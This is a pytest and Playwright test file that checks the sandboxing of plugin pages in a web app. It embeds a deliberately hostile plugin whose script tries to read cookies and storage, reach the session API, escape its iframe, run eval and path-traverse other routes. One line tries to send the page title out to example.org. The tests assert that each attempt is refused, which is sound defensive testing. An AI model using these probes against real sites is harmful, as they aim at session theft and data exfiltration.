"""Pages that plugins add, in a real browser: what they can do, and what a hostile one cannot."""

import json
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from core.hooks.deployment import Declared
from core.hooks.host import Host
from core.testing.chromium import Visitor, grave, too_wide
from core.testing.review import PASSWORD

HOSTILE = """
from core.api import Plugin as Base, PluginPage, hookimpl

SCRIPT = '''
const tried = {};
const attempt = async (name, what) => {
  try { tried[name] = String(await what()); } catch (error) { tried[name] = "refused"; }
};
const picture = () => new Promise((yes, no) => {
  const image = new Image();
  image.onload = () => yes("loaded");
  image.onerror = no;
  image.src = "/favicon.svg";
});
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("session", async () => (await fetch("/api/session")).status);
  await attempt("elsewhere", async () => (await fetch("https://example.org/")).status);
  await attempt("picture", picture);
  await attempt("around", () => parent.document.title);
  await attempt("top", () => { top.location = "https://example.org/top"; return "asked"; });
  await attempt("window", () => (open("https://example.org/window") === null ? "none" : "opened"));
  await attempt("eval", () => eval("'ran'"));
  await attempt("others", () => tangkapin.ask("../../../session", {}).then(() => "answered"));
})();
'''
HTML = '''<p onclick="document.body.dataset.handler = 1" id="p">x</p>
<img src="x" onerror="document.body.dataset.image = 1">
<script>document.body.dataset.inline = 1</script>'''


class Plugin(Base):
    @hookimpl
    def pages(self) -> list[PluginPage]:
        return [PluginPage(name="trap", title="Trap", roles=("officer",), html=HTML, script=SCRIPT),
                PluginPage(name="away", title="Away", roles=("officer",),
                           script="location = 'https://example.org/away?' + document.title"),
                PluginPage(name="closed", title="Closed", roles=("admin",))]
"""


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Host]:
    """The example and a hostile plugin."""
    folder = tmp_path_factory.mktemp("plugins")
    (folder / "planted_trap").mkdir()
    (folder / "planted_trap" / "__init__.py").touch()
    (folder / "planted_trap" / "plugin.py").write_text(HOSTILE)
    sys.path.insert(0, str(folder))
    declared = [
        Declared(id="counter", use="core.testing.example_page"),
        Declared(id="trap", use="planted_trap"),
        Declared(id="bali", use="core.testing.example_page", vendors=("polda-bali",)),
    ]
    made = Host.build(declared, environ={}, file=Path("plugins.toml"))
    sys.path.remove(str(folder))
    yield made
    made.close()


@pytest.fixture(scope="module")
def officer(site: Any) -> str:
    return str(site.person("officer", "petugas.plugin"))


@pytest.fixture
def visitor(browser: Any, site: Any, officer: str) -> Any:
    """For hostile pages, of which the browser complains as it should."""
    made = Visitor(browser, site.url)
    made.log_in(officer, PASSWORD)
    yield made
    made.close()


def test_a_page_of_a_plugin_asks_its_own_routes(visit: Callable[..., Any], officer: str) -> None:
    visitor = visit()
    visitor.log_in(officer, PASSWORD)
    visitor.page.get_by_role("link", name="Penghitung").click()
    frame = visitor.page.frame_locator("iframe[title=Penghitung]")
    expect(frame.locator("#value")).to_have_text("40 (officer)")
    frame.locator("#add").click()
    expect(frame.locator("#value")).to_have_text("42 (officer)")


def test_a_page_of_a_plugin_shuts_nobody_out(visit: Callable[..., Any], officer: str) -> None:
    visitor = visit()
    visitor.log_in(officer, PASSWORD)
    page = visitor.go("/added/counter/counter")
    frame = page.wait_for_selector("iframe.added-page").content_frame()
    frame.wait_for_selector("#value:not(:empty)")
    found = {}
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        found[scheme] = grave(page) + grave(frame)
    found["wide"] = too_wide(page, 360, 2560)
    assert {} == {where: faults for where, faults in found.items() if faults}


def test_a_hostile_page_reaches_nothing_but_its_own_frame(visitor: Any) -> None:
    page = visitor.go("/added/trap/trap")
    frame = page.wait_for_selector("iframe.added-page").content_frame()
    frame.wait_for_function("Object.keys(tried).length >= 9")
    tried = frame.evaluate("tried")
    refused = ("cookie", "storage", "session", "elsewhere", "picture", "around", "top", "eval")
    assert dict.fromkeys(refused, "refused") == {name: tried[name] for name in refused}
    assert "none" == tried["window"]
    assert "others" not in tried  # a name that is no route's gets no answer
    assert "null" == frame.evaluate("origin")
    frame.locator("#p").click()
    assert {} == json.loads(frame.evaluate("JSON.stringify({...document.body.dataset})"))
    assert page.url.endswith("/added/trap/trap")
    assert 1 == len(visitor.context.pages)
    assert [] == [address for address in visitor.outside if "example.org" in address]


def test_a_page_cannot_carry_what_it_knows_elsewhere(visitor: Any) -> None:
    page = visitor.page
    with page.expect_console_message(lambda message: "frame-src" in message.text):
        visitor.go("/added/trap/away")
    assert page.url.endswith("/added/trap/away")
    assert [] == [frame.url for frame in page.frames if "example.org" in frame.url]


def test_a_page_opened_by_itself_is_not_there(visitor: Any) -> None:
    answer = visitor.page.goto(visitor.url + "/api/plugins/trap/pages/trap")
    assert 404 == answer.status


def test_roles_and_agencies_hide_pages_and_routes(visitor: Any) -> None:
    ask = "async (path) => (await fetch(path, {headers: {Accept: 'application/json'}})).status"
    found = {path: visitor.page.evaluate(ask, f"/api/plugins/{path}") for path in (
        "counter/routes/value", "trap/pages/closed", "bali/routes/value", "counter/routes/none", "none/routes/value",
    )}  # fmt: skip
    assert {"counter/routes/value": 200, "trap/pages/closed": 404, "bali/routes/value": 404,
            "counter/routes/none": 404, "none/routes/value": 404} == found  # fmt: skip
